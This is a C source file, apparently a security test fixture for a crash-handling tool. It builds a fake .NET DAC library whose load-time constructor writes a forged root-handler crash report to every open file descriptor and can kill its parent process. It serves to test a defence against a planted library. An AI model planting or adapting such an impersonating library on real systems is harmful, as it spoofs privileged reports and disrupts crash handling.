/*
 * forgedac.c - a hostile DAC, for tests/run-handle-forged.sh: it stands in for
 * libmscordaccore.so in a copy of a self-contained .NET app. Its constructor runs inside
 * dlopen(), in whatever process loads it, and writes a forged crashpipe report - process 1,
 * "sshd", uid 4242, one thread per tid of the crashed process so that the thread list looks
 * right - to every file descriptor it has, as a planted DAC would to reach the pipe to the
 * root handler (issue 7, finding 3). FORGEDAC_MODE (compile time) then:
 *   0  returns, and CLRDataCreateInstance fails: the real analysis goes on after the forgery;
 *   1  kills the process that loaded it's parent too, so the forgery is all that arrives.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdbool.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifndef FORGEDAC_MODE
#define FORGEDAC_MODE 0
#endif

static char forged[1 << 16];

/* The crashed process's pid: the first number among the arguments of the nearest ancestor
 * that is `crashpipe handle` (%P), options and their values skipped. 0 when not found. */
static long crashed_pid(void)
{
	long pid = getppid();

	for (int up = 0; up < 6 && pid > 1; up++) {
		char path[64], buf[8192], *args[64];
		int n = 0;
		snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
		FILE *f = fopen(path, "r");
		size_t len = f ? fread(buf, 1, sizeof(buf) - 1, f) : 0;
		if (f)
			fclose(f);
		buf[len] = '\0';
		for (size_t i = 0; i < len && n < 64; i += strlen(buf + i) + 1)
			args[n++] = buf + i;
		for (int i = 1; i + 1 < n && strcmp(args[1], "handle") == 0; i++) {
			if (!strcmp(args[i], "--spool") || !strcmp(args[i], "--hint-dir") ||
			    !strcmp(args[i], "--debug-cache") || !strcmp(args[i], "--max-frames")) {
				i++;
				continue;
			}
			if (args[i][0] >= '1' && args[i][0] <= '9' && strspn(args[i], "0123456789") == strlen(args[i]))
				return strtol(args[i], NULL, 10);
		}
		snprintf(path, sizeof(path), "/proc/%ld/stat", pid);
		f = fopen(path, "r");
		long ppid = 0;
		if (!f || fscanf(f, "%*d (%*[^)]) %*c %ld", &ppid) != 1)
			ppid = 0;
		if (f)
			fclose(f);
		pid = ppid;
	}
	return 0;
}

/* One thread entry per tid of the crashed process, so that the list looks right. */
static void add_threads(char *p, size_t size)
{
	size_t n = strlen(p);
	char path[64];
	struct dirent *e;
	bool first = true;

	snprintf(path, sizeof(path), "/proc/%ld/task", crashed_pid());
	DIR *d = opendir(path);
	while (d && (e = readdir(d)) && n + 128 < size) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		n += snprintf(p + n, size - n, "%s{\"tid\":%s,\"name\":\"forged\",\"crashed\":%s,\"frames\":[]}",
			      first ? "" : ",", e->d_name, first ? "true" : "false");
		first = false;
	}
	if (d)
		closedir(d);
}

__attribute__((constructor)) static void forge(void)
{
	snprintf(forged, sizeof(forged),
		 "{\"schema\":\"crashpipe/1\",\"partial\":false,"
		 "\"process\":{\"pid\":1,\"tid\":1,\"exe\":\"/usr/sbin/sshd\",\"comm\":\"sshd\","
		 "\"cmdline\":\"sshd: forged\",\"uid\":4242,\"gid\":4242,\"signal\":11,"
		 "\"time\":1,\"hostname\":\"forged\",\"rlimit_core\":0},"
		 "\"threads\":[");
	add_threads(forged, sizeof(forged) - 64);
	strcat(forged, "],\"modules\":[],\"notes\":[]}\n");
	for (int fd = 3; fd < 1024; fd++)
		(void) !write(fd, forged, strlen(forged));
	if (FORGEDAC_MODE == 1) {
		kill(getppid(), SIGKILL);
		_exit(0);
	}
}

__attribute__((visibility("default"))) int CLRDataCreateInstance(const void *iid, void *target, void **iface)
{
	(void)iid;
	(void)target;
	*iface = NULL;
	return -1;
}
